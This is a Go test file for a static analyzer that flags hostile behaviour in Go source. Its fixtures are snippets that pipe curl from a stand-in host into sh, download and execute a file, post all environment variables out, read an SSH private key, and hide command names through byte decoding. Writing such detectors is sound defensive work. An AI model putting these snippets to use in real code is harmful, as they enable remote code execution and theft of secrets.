package golang_test

import (
	"strings"
	"testing"

	"github.com/gatehouse-project/gatehouse/internal/code/codetest"
	"github.com/gatehouse-project/gatehouse/internal/code/golang"
)

var cases = []struct {
	why  string
	src  string
	want []string
}{
	{"init runs on import", "package a\nimport \"os/exec\"\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl http://x.invalid | sh\").Run() }",
		[]string{"exec os/exec.Command [sh|-c|curl http://x.invalid | sh] @init", "embed shell: 'sh' '-c' 'curl http://x.invalid | sh'", "import os/exec"}},
	{"an alias and a sum", "package a\nimport e \"os/exec\"\nfunc F() { e.Command(\"s\"+\"h\"+\"\", \"x\") }", []string{"exec os/exec.Command [sh|x] @F ~call !"}},
	{"a package variable", "package a\nimport \"os/exec\"\nvar _ = exec.Command(\"true\").Run()", []string{"exec os/exec.Command [true]"}},
	{"main calls it", "package main\nimport \"os/exec\"\nfunc main() { f() }\nfunc f() { exec.Command(\"true\") }", []string{"exec os/exec.Command [true] @f ~main"}},
	{"a download is written and run", "package a\nimport (\"net/http\"; \"os\"; \"io\"; \"os/exec\")\nfunc init() {\n r, _ := http.Get(\"http://x.invalid/a\")\n b, _ := io.ReadAll(r.Body)\n os.WriteFile(\"/tmp/a\", b, 0755)\n exec.Command(\"/tmp/a\").Start()\n}",
		[]string{"fetch net/http.Get [http://x.invalid/a] @init", "write-exec os.WriteFile [/tmp/a] <fetch @init", "write-file os.WriteFile [/tmp/a] <fetch @init", "exec os/exec.Command [/tmp/a] <file:fetch @init"}},
	{"copied", "package a\nimport (\"net/http\"; \"os\"; \"io\"; \"os/exec\")\nfunc F() {\n r, _ := http.Get(\"http://x.invalid/a\")\n f, _ := os.Create(\"a\")\n io.Copy(f, r.Body)\n exec.Command(\"a\").Start()\n}",
		[]string{"exec os/exec.Command [a] <file:fetch @F ~call"}},
	{"the environment goes out", "package a\nimport (\"net/http\"; \"os\"; \"strings\")\nfunc init() { http.Post(\"http://x.invalid\", \"t\", strings.NewReader(strings.Join(os.Environ(), \"\"))) }",
		[]string{"send net/http.Post [http://x.invalid|t] <computed,env-all @init", "env-all os.Environ @init"}},
	{"bytes put together and decoded", "package a\nimport \"os/exec\"\nfunc F() { exec.Command(string([]byte{116, 114, 117, 101})) }", []string{"exec os/exec.Command [true] @F ~call !"}},
	{"a secret", "package a\nimport (\"os\"; \"path/filepath\")\nfunc F(h string) { os.ReadFile(filepath.Join(h, \".ssh\", \"id_rsa\")) }", []string{"secret os.ReadFile [/.ssh/id_rsa] @F ~call"}},
	{"directives", "package a\nimport \"C\"\nimport _ \"unsafe\"\n//go:linkname x runtime.x\nfunc x()\n//go:generate sh x.sh\n", []string{"native cgo", "native go:linkname [x|runtime.x]", "exec go:generate [sh x.sh] ~call"}},
	{"comments and texts", "package a\n// exec.Command(\"x\")\nvar s = \"exec.Command(1)\"", []string{"no exec"}},
	{"a part that does not parse", "package a\nimport \"os/exec\"\nfunc init() { exec.Command(\"true\") }\nfunc g( {", []string{"exec os/exec.Command [true] @init"}},
	{"a function kept in a variable", "package a\nimport \"os/exec\"\nfunc init() { r := exec.Command; r(\"true\") }", []string{"exec os/exec.Command [true] @init"}},
	{"a line directive does not move a fact", "package a\nimport \"os/exec\"\n//line b.go:1\nfunc init() { exec.Command(\"true\") }", []string{"exec os/exec.Command [true] @init"}},
}

func TestAnalyze(t *testing.T) {
	t.Parallel()
	for _, c := range cases {
		got := codetest.Show(golang.Analyze([]byte(c.src)))
		for _, w := range codetest.Lacks(got, c.want) {
			t.Errorf("%s: %s\nlacks %s\ngot\n%s", c.why, c.src, w, strings.Join(got, "\n"))
		}
	}
}

func TestHostileSources(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"(", "{", "[", "!", "*", "a+", "a.", "-", "func(){", "x=x+x;"} {
		golang.Analyze([]byte("package a\nvar x = " + strings.Repeat(unit, 1<<18/len(unit))))
	}
	golang.Analyze([]byte("package a\nconst a = \"x\"\nfunc f() {" + strings.Repeat("b := a+a\na = b+b\n", 10000) + "}"))
}

func FuzzAnalyze(f *testing.F) {
	for _, c := range cases {
		f.Add([]byte(c.src))
	}
	f.Fuzz(func(t *testing.T, src []byte) { golang.Analyze(src) })
}
